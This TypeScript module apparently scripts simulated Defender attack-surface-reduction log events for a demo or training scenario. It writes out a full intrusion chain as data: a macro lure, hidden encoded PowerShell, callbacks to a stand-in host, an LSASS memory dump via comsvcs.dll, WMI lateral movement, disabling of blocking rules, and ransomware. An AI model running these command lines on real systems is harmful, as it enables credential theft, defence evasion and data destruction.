import { cmd, home, lsass, powershell, temp, wmiPrvSe, word } from './paths.ts'
import { exploitGuard, ruleValue } from './registry-values.ts'
import type { Step } from './scenario.ts'

const lure = `${home}\\Downloads\\Rechnung & Mahnung 2026-11.docm`
const opened = `"${word}" /n "${lure}" /o ""`
const dropped = `${temp}\\script.vbs`

/** The lure is opened: what happens up to the first child process. */
export const macroOpens = (code: 1121 | 1122): Step[] => [
  { after: 0, code, rule: 'macroWin32', fields: { Path: lure, 'Process Name': word, 'Parent Commandline': opened } },
  {
    after: 0.2,
    code,
    rule: 'officeContent',
    fields: { Path: dropped, 'Process Name': word, 'Parent Commandline': opened },
  },
  {
    after: 0.5,
    code,
    rule: 'officeChild',
    fields: {
      Path: cmd,
      'Process Name': word,
      'Target Commandline': `cmd.exe /c start /min wscript.exe //B "${dropped}" & exit`,
      'Parent Commandline': opened,
    },
  },
]

/** The macro tries what is left when its first child is blocked. */
export const macroTriesAgain: Step[] = [
  {
    after: 1,
    code: 1121,
    rule: 'officeChild',
    fields: {
      Path: 'C:\\Windows\\System32\\wscript.exe',
      'Process Name': word,
      'Target Commandline': `wscript.exe //B //E:vbscript "${dropped}"`,
      'Parent Commandline': opened,
    },
  },
  {
    after: 1.5,
    code: 1121,
    rule: 'officeChild',
    fields: {
      Path: powershell,
      'Process Name': word,
      'Target Commandline': 'powershell.exe -nop -w hidden -enc {longBase64}',
      'Parent Commandline': opened,
    },
  },
]

/** If the rules only audit, the attack goes on to credentials, persistence and the next host. */
export const attackGoesOn: Step[] = [
  {
    after: 2,
    code: 1122,
    rule: 'scriptDownload',
    fields: {
      Path: `${temp}\\svchost32.exe`,
      'Process Name': 'C:\\Windows\\System32\\wscript.exe',
      'Target Commandline': `"${temp}\\svchost32.exe" -k`,
      'Parent Commandline': `wscript.exe //B "${dropped}"`,
      'Involved File': dropped,
    },
  },
  {
    after: 3,
    code: 1122,
    rule: 'obfuscatedScript',
    fields: {
      Path: powershell,
      'Process Name': 'C:\\Windows\\System32\\wscript.exe',
      'Target Commandline': 'powershell.exe -nop -w hidden -ep bypass -EncodedCommand {longBase64}',
      'Parent Commandline': `wscript.exe //B "${dropped}"`,
    },
  },
  {
    after: 4,
    code: 1125,
    fields: { Destination: 'https://update-check.example/g?i=1&k=<id>', 'Process Name': powershell },
  },
  {
    after: 9,
    code: 1122,
    rule: 'copiedTools',
    fields: {
      Path: `${temp}\\rundll32.exe`,
      'Process Name': `${temp}\\svchost32.exe`,
      'Target Commandline': `"${temp}\\rundll32.exe" C:\\Windows\\System32\\comsvcs.dll, MiniDump 704 ${temp}\\d.bin full`,
      'Parent Commandline': `"${temp}\\svchost32.exe" -k`,
    },
  },
  {
    after: 10,
    code: 1121,
    rule: 'lsass',
    fields: {
      Path: `${temp}\\rundll32.exe`,
      'Process Name': lsass,
      'Parent Commandline': `"${temp}\\rundll32.exe" C:\\Windows\\System32\\comsvcs.dll, MiniDump 704 ${temp}\\d.bin full`,
    },
  },
  {
    after: 24,
    code: 1121,
    rule: 'wmiPersistence',
    fields: { User: '(unknown user)', Path: '', 'Process Name': powershell, 'Parent Commandline': powershell },
  },
  {
    after: 31,
    code: 1122,
    rule: 'psexecWmi',
    fields: {
      Path: cmd,
      'Process Name': wmiPrvSe,
      'Target Commandline': 'cmd.exe /Q /c cd \\ 1> \\\\127.0.0.1\\ADMIN$\\__{number} 2>&1',
      'Parent Commandline': 'C:\\Windows\\system32\\wbem\\wmiprvse.exe -secured -Embedding',
    },
  },
  {
    after: 38,
    code: 1126,
    fields: { Destination: 'https://update-check.example/up?n=2', 'Process Name': `${temp}\\svchost32.exe` },
  },
]

/** The attacker switches off what was in the way, and wipes the log. */
export const attackerTampers: Step[] = [
  {
    after: 45,
    code: 5007,
    fields: { 'Old Value': ruleValue('lsass', 1), 'New Value': ruleValue('lsass', 0) },
    sets: [{ rule: 'lsass', was: 'block', becomes: 'off' }],
  },
  {
    after: 46,
    code: 5007,
    fields: { 'Old Value': '', 'New Value': `${exploitGuard}\\ASROnlyExclusions\\C:\\Users\\Public = 0x0` },
  },
  {
    after: 52,
    code: 1122,
    rule: 'ransomware',
    fields: {
      Path: `${home}\\Documents\\{document}.docx.locked`,
      'Process Name': 'C:\\Users\\Public\\enc.exe',
      'Target Commandline': '',
      'Parent Commandline': 'C:\\Users\\Public\\enc.exe -p C:\\Users -k {hex40}',
    },
    clearsLog: true,
  },
]
